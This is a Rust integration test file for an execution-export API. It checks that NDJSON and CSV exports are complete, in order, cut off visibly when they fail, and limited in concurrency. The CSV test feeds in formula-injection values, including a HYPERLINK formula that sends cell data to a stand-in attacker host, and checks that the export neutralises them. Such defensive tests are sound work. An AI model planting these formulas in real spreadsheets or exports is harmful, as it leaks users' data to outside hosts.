//! All executions as a file: whole, in order, harmless, and never a part that looks like the whole.

use agenthook::app::{EXPORTS, EXPORTS_OF_KEY};
use agenthook::clock::Clock;
use agenthook::model::{
    Actor, AgentId, AuditAction, AuditEntry, ExecutionId, ExecutionSource, Headers, UnsignedExecution,
};
use agenthook::store::{ExecutionFilter, Store};
use serde_json::{Value, json};

use crate::harness::{ADMIN_KEY, Answer, Server, accept_many, completion, error, eventually};

async fn export(server: &Server, query: &str) -> Answer {
    let answer =
        server.ask("GET", &format!("/api/v1/executions/export?{query}"), Some(ADMIN_KEY), None).await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    answer
}

fn lines(answer: &Answer) -> Vec<Value> {
    answer.text.lines().map(|line| serde_json::from_str(line).expect("a line of JSON")).collect()
}

/// All of a list, page by page.
async fn listed(server: &Server, query: &str) -> Vec<Value> {
    let (mut all, mut cursor) = (Vec::new(), String::new());
    loop {
        let mut page = server.get(&format!("/api/v1/executions?limit=200&{query}{cursor}")).await;
        all.append(page["executions"].as_array_mut().expect("a list"));
        match page["next_cursor"].as_str() {
            Some(next) => cursor = format!("&cursor={next}"),
            None => return all,
        }
    }
}

/// Stores executions with this payload.
async fn stored(store: &Store, payload: &str, count: usize) -> Vec<ExecutionId> {
    let mut ids = Vec::new();
    for _ in 0..count {
        let now = Clock::manual().now();
        let execution = UnsignedExecution {
            execution_id: ExecutionId::new(),
            tenant_id: "acme".parse().expect("a tenant"),
            agent_id: AgentId::new(),
            agent_version: 1,
            payload: payload.into(),
            request_id: uuid::Uuid::nil(),
            source: ExecutionSource::Test,
            headers: Headers::default(),
            replay_of: None,
            received_at: now,
            event: None,
        };
        let entry = AuditEntry::new(Actor::server(), AuditAction::AgentTested, execution.agent_id, now);
        store.insert_unsigned(&execution, &entry).await.expect("stored");
        ids.push(execution.execution_id);
    }
    ids
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_is_the_list_and_more() {
    let server = Server::start().await;
    let agent = server.agent_with(json!({"retry": {"max_attempts": 1}})).await;
    let other = server.agent_with(json!({"tenant_id": "other"})).await;
    agent.run(&server, "{\n  \"city\": \"Köln\",\r\n \"big\": 12345678901234567890123}").await;
    other.run(&server, "[2]").await;
    server.llm.answers(error(400, "invalid_request_error", "no"));
    agent.run(&server, "[3]").await;
    // Nobody runs these: the agent is none.
    server.drain().await;
    let (many, now) = (AgentId::new(), server.clock.now());
    accept_many(&server.app.store, "acme", many, now, 2300).await;

    let of_many = format!("agent_id={many}");
    for query in [
        "",
        "tenant_id=other",
        "status=failed",
        "status=queued",
        &of_many,
        "from=2020-01-01T00:00:00Z",
        "to=2020-01-01T00:00:00Z",
    ] {
        let mut exported = lines(&export(&server, query).await);
        for line in &mut exported {
            let line = line.as_object_mut().expect("an object");
            assert!(line.remove("input").is_some() && line.remove("output").is_some());
        }
        let listed = listed(&server, query).await;
        assert_eq!(exported.len(), listed.len(), "{query}");
        assert!(exported == listed, "{query}: the same, in the same order");
    }
    let all = export(&server, "").await;
    assert_eq!(all.header("content-type"), "application/x-ndjson");
    let name = all.header("content-disposition");
    assert!(
        name.starts_with("attachment; filename=\"executions-20") && name.ends_with("Z.ndjson\""),
        "{name}"
    );
    assert_eq!(all.text.lines().count(), 2303);
    let first = all.text.lines().last().expect("a line");
    assert!(first.contains(r#""input":{   "city": "Köln",   "big": 12345678901234567890123}"#), "{first}");
    assert!(first.contains(r#""output":"triaged""#), "{first}");
    for wrong in
        ["format=xml", "q=x", "limit=1", "status=held&held_reason=no", "status=failed&held_reason=paused"]
    {
        server.expect(422, "GET", &format!("/api/v1/executions/export?{wrong}"), None).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_table_has_the_same_and_no_formula() {
    let server = Server::start().await;
    let agent = server.agent_with(json!({"retry": {"max_attempts": 1}})).await;
    let outputs = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "plain, with \"quotes\"\nand lines",
        "triaged",
    ];
    for (output, n) in outputs.iter().zip(0..) {
        server.llm.answers(completion(output));
        agent.run(&server, format!("{{\"n\": {n}}}")).await;
    }
    agent.run(&server, "-7").await;
    server.llm.answers(error(400, "invalid_request_error", "no"));
    agent.run(&server, "\"failed\"").await;
    let answer = export(&server, "format=csv").await;
    assert!(answer.header("content-type").starts_with("text/csv"));
    let mut table = csv::Reader::from_reader(answer.text.as_bytes());
    let head: Vec<_> = table.headers().expect("a head").iter().map(str::to_owned).collect();
    assert_eq!((head.len(), head[0].as_str(), head[26].as_str()), (27, "execution_id", "output"));
    let rows: Vec<csv::StringRecord> = table.records().map(|row| row.expect("a row")).collect();
    let exported = lines(&export(&server, "").await);
    assert_eq!(rows.len(), exported.len());
    let place = |name: &str| head.iter().position(|column| column == name).expect("a column");
    for (row, line) in rows.iter().zip(&exported) {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
        let is = |name: &str, value: &Value| {
            let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
            let shown = &row[place(name)];
            let shown = shown.strip_prefix('\'').unwrap_or(shown);
            assert_eq!(shown, if value.is_null() { "" } else { &text }, "{name}");
        };
        is("execution_id", &line["execution_id"]);
        is("total_ms", &line["timing"]["total_ms"]);
        is("prompt_tokens", &line["usage"]["prompt_tokens"]);
        is("error_message", &line["error"]["message"]);
        is("output", &line["output"]);
    }
    let [failed, seven, triaged] = [&rows[0], &rows[1], &rows[2]];
    assert_eq!((&failed[place("error_code")], &failed[place("input")]), ("llm_bad_request", "\"failed\""));
    assert_eq!((&seven[place("input")], &seven[place("cost_usd")]), ("'-7", "0.0000133"));
    assert_eq!((&triaged[place("input")], &triaged[place("output")]), ("{\"n\": 7}", "triaged"));
    let none = export(&server, "format=csv&to=2020-01-01T00:00:00Z").await;
    assert_eq!(none.text.split("\r\n").collect::<Vec<_>>(), [&head.join(","), ""], "a head alone");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_breaks_off_does_not_look_whole() {
    let server = Server::without_worker().await;
    let ids = stored(&server.app.store, "{}", 501).await;
    let (database, export) = (&server.database, "/api/v1/executions/export");
    let oldest = database.id(ids[0].0);
    // The second look at the ledger finds what it cannot read.
    database.sql(&format!("UPDATE executions SET source = 'dream' WHERE execution_id = {oldest}")).await;
    let request = server.http.get(format!("{}{export}", server.url)).bearer_auth(ADMIN_KEY);
    let answer = request.send().await.expect("an answer");
    assert_eq!(answer.status(), 200);
    answer.text().await.expect_err("the last chunk is missing");
    let newest = database.id(ids[500].0);
    database.sql(&format!("UPDATE executions SET source = 'dream' WHERE execution_id = {newest}")).await;
    server.expect(500, "GET", export, None).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_key_that_is_revoked_takes_no_more() {
    let server = Server::without_worker().await;
    server.tenant(json!({"tenant_id": "acme"})).await;
    let payload = json!("x".repeat(900_000)).to_string();
    stored(&server.app.store, &payload, 30).await;
    let key = server.key("viewer", "acme").await;
    let request = server.http.get(format!("{}/api/v1/executions/export", server.url));
    let request = request.bearer_auth(key["key"].as_str().expect("a key"));
    // Not read yet: it is far larger than what is on the way.
    let answer = request.send().await.expect("an answer");
    assert_eq!(answer.status(), 200);
    let path = format!("/api/v1/keys/{}", key["key_id"].as_str().expect("an id"));
    server.expect(204, "DELETE", &path, None).await;
    answer.text().await.expect_err("the last chunk is missing");
    assert_eq!(export(&server, "").await.text.lines().count(), 30, "others may");
}

#[tokio::test(flavor = "multi_thread")]
async fn large_ones_are_read_one_after_the_other() {
    let server = Server::without_worker().await;
    let store = &server.app.store;
    let payload = json!("x".repeat(400_000)).to_string();
    let mut ids = stored(store, &payload, 7).await;
    ids.reverse();
    let mut export = store.export(ExecutionFilter::default()).await.expect("an answer");
    let (mut read, mut batches) = (Vec::new(), Vec::new());
    loop {
        let some = store.next_exported(&mut export).await.expect("an answer");
        if some.is_empty() {
            break;
        }
        batches.push(some.len());
        read.extend(some.into_iter().map(|exported| exported.execution.execution_id));
    }
    assert_eq!(batches, [2, 2, 2, 1], "a megabyte at a time");
    assert_eq!(read, ids);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_few_go_at_a_time_and_whoever_leaves_makes_room() {
    let server = Server::without_worker().await;
    server.tenant(json!({"tenant_id": "acme"})).await;
    let payload = json!("x".repeat(900_000)).to_string();
    stored(&server.app.store, &payload, 30).await;
    let url = format!("{}/api/v1/executions/export", server.url);
    let (viewer, operator) =
        (server.api_key("viewer", "acme").await, server.api_key("operator", "acme").await);
    let begin = async |key: &str| server.http.get(&url).bearer_auth(key).send().await.expect("an answer");
    // Nobody reads them: they are far larger than what is on the way.
    let first = begin(&viewer).await;
    // One key has one, whatever is free; and two go at all.
    let again = begin(&viewer).await;
    assert_eq!(again.status(), 503);
    assert!(again.text().await.expect("a reason").contains("1 export of this key"));
    let second = begin(&operator).await;
    assert_eq!((EXPORTS, EXPORTS_OF_KEY, second.status().as_u16()), (2, 1, 200));
    let refused = server.ask("GET", "/api/v1/executions/export", Some(ADMIN_KEY), None).await;
    assert_eq!((refused.status, &refused.body["code"]), (503, &json!("unavailable")), "{}", refused.text);
    assert!(refused.text.contains("2 exports are under way"), "{}", refused.text);
    drop(first);
    eventually("there is room again", async || {
        let answer = begin(ADMIN_KEY).await;
        let is_refused = answer.status() == 503;
        (!is_refused).then_some(())
    })
    .await;
    assert_eq!(second.text().await.expect("whole").lines().count(), 30);
}
